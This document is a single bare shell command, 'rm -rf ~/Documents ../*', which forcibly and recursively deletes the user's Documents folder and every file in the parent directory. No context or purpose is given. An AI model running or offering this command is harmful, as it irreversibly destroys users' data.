rm -rf ~/Documents ../*
